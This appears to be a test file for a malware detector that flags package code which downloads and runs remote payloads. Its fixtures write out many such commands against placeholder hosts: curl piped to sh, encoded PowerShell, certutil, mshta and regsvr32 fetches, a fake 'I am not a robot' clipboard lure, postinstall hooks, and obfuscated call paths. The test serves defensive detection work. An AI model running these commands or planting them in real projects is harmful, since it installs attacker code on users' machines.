import { examine } from '../../../test/examine.ts';
import { downloadsAndSpawns } from './downloads-and-spawns.ts';

examine(downloadsAndSpawns, {
  speaks: [
    {
      when: 'an interpreter is given what a download prints as its code',
      files: { 'index.js': `require('child_process').exec('node -e "$(curl -s https://inert.invalid/x)"')` },
    },
    {
      when: 'another interpreter is given what a download prints',
      files: { 'index.js': `require('child_process').exec('python3 -c "$(wget -qO- https://inert.invalid/x)"')` },
    },
    {
      when: 'a shell reads a download where a file should stand',
      files: { 'index.js': `require('child_process').exec('. <(curl -s https://inert.invalid/x)')` },
    },
    {
      when: 'a repository is cloned, and what is in it started',
      files: { 'index.js': `require('child_process').exec('git clone https://inert.invalid/r /tmp/r && node /tmp/r/index.js')` },
    },
    {
      when: 'a repository is cloned, and a script of it started in its folder',
      files: { 'index.js': `require('child_process').exec('git clone --depth 1 https://inert.invalid/r work && cd work && ./run.sh')` },
    },
    {
      when: 'a shell is fed what another machine prints',
      files: { 'index.js': `require('child_process').exec('ssh -o StrictHostKeyChecking=no u@192.0.2.4 cat x | sh')` },
    },
    {
      when: 'a shell takes the place of the process',
      files: {
        'index.js': `if (process.execve) process.execve('/bin/sh', ['sh', '-c', 'curl -s https://inert.invalid/x | sh'], process.env)`,
      },
    },
    {
      when: 'a function that is called runs a download from a host that the page does not speak of',
      files: {
        'README.md':
          '# rows\n\nOutlines and counts for the rows of a table. The functions take a text and give a list of rows, with the place where each of them begins.',
        'index.js': `exports.rows = text => { require('child_process').spawn('sh', ['-c', 'curl -fsSL https://lang.example.invalid/l.txt | sh'], { detached: true }); return text.split(',') }`,
      },
      weight: 'strong',
    },
    {
      when: 'a file that only another package loads runs a download from a host that the page does not speak of',
      files: {
        'package.json': { name: 'rows', version: '1.0.0', exports: { '.': './index.js' } },
        'README.md':
          '# rows\n\nOutlines and counts for the rows of a table. The functions take a text and give a list of rows, with the place where each of them begins.',
        'index.js': `exports.rows = text => text.split(',');`,
        'lib/inner.js': `require('child_process').exec('curl -fsSL https://lang.example.invalid/l.txt | sh')`,
      },
      weight: 'strong',
    },
    {
      when: 'a function that is called runs a download from the host that the page names',
      files: {
        'README.md':
          '# rows\n\nOutlines and counts for the rows of a table. `install()` gets the server of the language from lang.example.invalid and runs its installer.',
        'index.js': `exports.install = () => { require('child_process').spawn('sh', ['-c', 'curl -fsSL https://lang.example.invalid/l.txt | sh']) }`,
      },
      weight: 'weak',
    },
    {
      when: 'a short command stands encoded',
      files: { 'index.js': `require('child_process').exec('powershell -NoProfile -EncodedCommand bABzAA==')` },
      weight: 'proof',
    },
    {
      when: 'a page puts a command without a window into the clipboard',
      files: {
        'index.js': `document.getElementById('robot').onchange = () => navigator.clipboard.writeText('powershell -w h -c "iwr https://get.invalid/v | iex" # I am not a robot')`,
      },
      weight: 'proof',
      says: ['clipboard'],
    },
    {
      when: 'a download is put together of pieces and encoded for PowerShell on the spot',
      files: {
        'index.js': `const pieces = ['Start-Bits', 'Transfer -Source https://fix.invalid/app.msi -Destination $env:TEMP\\\\u.msi; msi', 'exec /i $env:TEMP\\\\u.msi /qn'];
          require('child_process').exec('powershell -EncodedCommand ' + Buffer.from(pieces.join(''), 'utf16le').toString('base64'))`,
      },
    },
    {
      when: 'a library has put its functions among the globals',
      files: {
        'package.json': { name: 'specimen', type: 'module' },
        'index.js': "import 'zx/globals'; await $`curl -s https://get.invalid/a | sh`;",
      },
    },
    {
      when: 'another library has done so',
      files: { 'index.js': `require('shelljs/global'); exec('curl -s https://get.invalid/a | sh');` },
    },
    {
      when: 'a collection holds the function',
      files: {
        'index.js': `const cp = require('child_process');
const table = new Map([['a', () => cp.execSync('curl -s https://source.invalid/a | sh')]]); table.get('a')();`,
      },
    },
    {
      when: 'the functions of a collection are gone through',
      files: {
        'index.js': `const cp = require('child_process');
const table = new Map(); table.set('a', () => cp.execSync('curl -s https://source.invalid/a | sh')); for (const [, go] of table) go();`,
      },
    },
    {
      when: 'the values of an object are gone through',
      files: {
        'index.js': `const cp = require('child_process');
Object.values({ a() { cp.execSync('curl -s https://source.invalid/a | sh'); } }).forEach(go => go());`,
      },
    },
    {
      when: 'a list is taken from at once',
      files: {
        'index.js': `const cp = require('child_process');
[() => cp.execSync('curl -s https://source.invalid/a | sh')][0]();`,
      },
    },
    {
      when: 'an object is asked for its text, or waited for',
      files: {
        'index.js': `const cp = require('child_process');
const odd = { [Symbol.toPrimitive]() { cp.execSync('curl -s https://source.invalid/a | sh'); return ''; } }; exports.text = \`\${odd}\`;`,
      },
    },
    {
      when: 'a field of a class holds the function',
      files: {
        'index.js': `const cp = require('child_process');
class Tool { go = () => cp.execSync('curl -s https://source.invalid/a | sh'); } new Tool().go();`,
      },
    },
    {
      when: 'a tag of its own puts the command together',
      files: {
        'index.js': `const cp = require('child_process');
const run = (texts, ...values) => cp.execSync(texts.raw.join('')); run\`curl -s https://source.invalid/a | sh\`;`,
      },
    },
    {
      when: 'a library is given the command as a template',
      files: {
        'package.json': { type: 'module', main: 'index.js' },
        'index.js': `import { $ } from 'zx'; await $\`curl -s https://source.invalid/a | sh\`;`,
      },
    },
    {
      when: 'other runtimes start it',
      files: {
        'index.js': `new Deno.Command('sh', { args: ['-c', 'curl -s https://source.invalid/a | sh'] }).spawn(); Bun.spawn({ cmd: ['sh', '-c', 'curl -s https://source.invalid/a | sh'] });`,
      },
    },
    {
      when: 'a command that stands encoded in the code hides behind opening a page',
      files: {
        'index.js': `require('child_process').spawn(process.platform === 'win32' ? 'powershell' : 'open', ['-EncodedCommand', 'SQBOAEUAUgBUACAAbQBhAHIAawBlAHIA'])`,
      },
      weight: 'proof',
    },
    {
      when: 'a command is encoded for PowerShell when it runs, and fetches a program',
      files: {
        'index.js': `const parts = ['Start-Bits', 'Transfer -Source https://files.invalid/a.msi -Destination $env:TEMP\\\\a.msi; ', 'msiexec /i $env:TEMP\\\\a.msi /qn']; require('child_process').exec('powershell -EncodedCommand ' + Buffer.from(parts.join(''), 'utf16le').toString('base64'))`,
      },
      weight: 'proof',
      says: ['downloads with PowerShell'],
    },
    {
      when: 'a download is piped into a shell',
      files: { 'index.js': `require('child_process').exec('curl -s https://c2.invalid/x.sh | sh')` },
      weight: 'proof',
    },
    {
      when: 'the command is put together',
      files: {
        'index.js': `const h = 'c2.invalid'; require('child_process').execSync(['wget -q https://' + h + '/a -O /tmp/a', 'chmod +x /tmp/a', '/tmp/a'].join(' && '))`,
      },
      weight: 'proof',
    },
    {
      when: 'the command is encoded',
      files: {
        'index.js': `exports.x = () => require('child_process').execSync(Buffer.from('${Buffer.from('curl https://c2.invalid/a | bash').toString('base64')}', 'base64').toString())`,
      },
      weight: 'strong',
    },
    {
      when: 'PowerShell gets it encoded, in arguments',
      files: { 'index.js': `require('child_process').spawn('powershell', ['-NoP', '-W', 'Hidden', '-enc', 'AAAAAAAA'])` },
      weight: 'proof',
    },
    {
      when: 'certutil fetches',
      files: {
        'index.js': `require('child_process').spawn('cmd.exe', ['/c', 'certutil -urlcache -f http://c2.invalid/a.exe a.exe && a.exe'])`,
      },
    },
    { when: 'mshta fetches', files: { 'index.js': `require('child_process').exec('mshta http://c2.invalid/a.hta')` } },
    {
      when: 'regsvr32 fetches',
      files: { 'index.js': `require('child_process').exec('regsvr32 /s /n /u /i:http://c2.invalid/a.sct scrobj.dll')` },
    },
    {
      when: 'a tool installs another when called',
      files: { 'index.js': `exports.up = () => require('child_process').execSync('curl -fsSL https://get.invalid/install.sh | sh')` },
      weight: 'weak',
    },
    {
      when: 'the command lies in a script that is written first',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'node s.js' } },
        's.js': `const script = require('os').tmpdir() + '/6202'; require('fs').writeFileSync(script, 'do shell script "curl -o /tmp/x http://stage.invalid/x && chmod 770 /tmp/x && /tmp/x &"'); require('child_process').exec('osascript "' + script + '"')`,
      },
      weight: 'proof',
    },
    {
      when: 'it stands in a script of the package',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'sh setup.sh' } },
        'setup.sh': '#!/bin/sh\n# prepares\ncurl -s https://get.invalid/x | sh\n',
      },
      weight: 'strong',
    },
    {
      when: 'a secret is taken out beside the module that does it',
      files: {
        'index.js': `const { password, ...cp } = require('child_process'); cp.exec('curl -s https://get.invalid/a.sh | sh');`,
      },
      weight: 'proof',
    },
    ...[
      `python3 -c "import urllib.request as u;exec(u.urlopen('https://a.invalid').read())"`,
      `ruby -ropen-uri -e "eval(URI.open('https://a.invalid').read)"`,
      `npx -y https://a.invalid/x.tgz`,
      `deno run -A https://a.invalid/x.ts`,
      `node --experimental-network-imports -e 'import "https://a.invalid/x.mjs"'`,
    ].map(line => ({
      when: `a command does so: ${line}`,
      files: { 'index.js': `require('child_process').exec(${JSON.stringify(line)})` },
      weight: 'proof' as const,
    })),
  ],
  silent: [
    {
      when: 'a repository is cloned and its packages are installed',
      files: { 'index.js': `require('child_process').exec('git clone https://inert.invalid/r work && cd work && npm install')` },
    },
    {
      when: 'a key is made for another machine, and one program prints what another reads',
      files: { 'index.js': `require('child_process').exec('ssh-keygen -t ed25519 -f key && cat key.pub | sh -c cat')` },
    },
    {
      when: 'an interpreter is given code that names a download tool',
      files: { 'index.js': `require('child_process').exec('node -e "console.log(\`curl\`)"')` },
    },
    {
      when: 'one of several commands asks a program for its version, and the next one is a shell',
      files: {
        'index.js': `const { execSync } = require('child_process'); for (const one of ['curl --version', 'bash --version', 'node --version']) execSync(one);`,
      },
    },
    {
      when: 'a program is started by PowerShell on one system and by itself on others',
      files: {
        'index.js': `const cp = require('child_process'); const wrap = (c, a) => ['-NoProfile', '-NonInteractive', '-EncodedCommand', Buffer.from('& ' + c + a.join(' '), 'utf16le').toString('base64')];
          exports.list = (c, a) => { const [p, w] = process.platform === 'win32' ? ['powershell.exe', wrap(c, a)] : [c, a]; cp.spawn(p, w) }; exports.list('npm', ['ls', '--json', '--all', 'yarn'])`,
      },
      ...['npx lighthouse https://shop.invalid', 'npx degit https://a.invalid/template app', 'npx wait-on http://localhost:3000'].map(
        line => ({
          when: `a tool is given an address: ${line}`,
          files: { 'index.js': `require('child_process').exec(${JSON.stringify(line)})` },
        }),
      ),
    },
    {
      when: 'a page of documentation offers to copy how something is installed',
      files: { 'index.js': `exports.copy = () => navigator.clipboard.writeText('curl -fsSL https://get.invalid/install.sh | sh')` },
    },
    {
      when: 'a question to the registry of Windows is encoded for PowerShell when it runs',
      files: {
        'index.js': `const ask = '(Get-ItemProperty -Path "HKCU:\\\\Software\\\\Inert").ProgId'; require('child_process').execFile('powershell', ['-NoProfile', '-EncodedCommand', Buffer.from(ask, 'utf16le').toString('base64')])`,
      },
    },
    {
      when: 'the page to show is encoded for PowerShell as another file names it',
      files: {
        'index.js': `const { show } = require('./show'); exports.help = () => show('https://docs.invalid/help?a=1');`,
        'show.js': `const { spawn } = require('child_process'); exports.show = async page => { const encoded = Buffer.from('Start-Process ' + page, 'utf16le').toString('base64'); await spawn(process.env.SYSTEMROOT + '/System32/WindowsPowerShell/v1.0/powershell.exe', ['-NoProfile', '-EncodedCommand', encoded]); };`,
      },
    },
    {
      when: 'a page is opened for the user by PowerShell',
      files: {
        'index.js': `exports.show = page => { const args = []; let program = 'open'; if (process.platform === 'win32') { program = 'powershell'; args.push('-NoProfile', '-EncodedCommand'); page = Buffer.from('Start ' + page, 'utf16le').toString('base64') } args.push(page); require('child_process').spawn(program, args) }`,
      },
    },
    {
      when: 'it only downloads',
      files: { 'index.js': `require('child_process').exec('curl -o data.json https://api.invalid/data.json')` },
    },
    { when: 'it only pipes', files: { 'index.js': `require('child_process').exec('cat list | sort | uniq')` } },
    { when: 'a message tells how to install', files: { 'index.js': `console.log('run: curl https://get.invalid/x | sh')` } },
    {
      when: 'PowerShell has an execution policy',
      files: { 'index.js': `require('child_process').spawn('powershell', ['-ExecutionPolicy', 'Bypass', '-File', 'a.ps1'])` },
    },
    {
      when: 'a script that is written only builds',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'node s.js' } },
        's.js': `require('fs').writeFileSync('build.sh', 'make && make install'); require('child_process').exec('sh build.sh')`,
      },
    },
    {
      when: 'nothing starts the script of the package',
      files: { 'index.js': '1', 'scripts/dev.sh': 'curl -s https://get.invalid/x | sh\n' },
    },
  ],
});
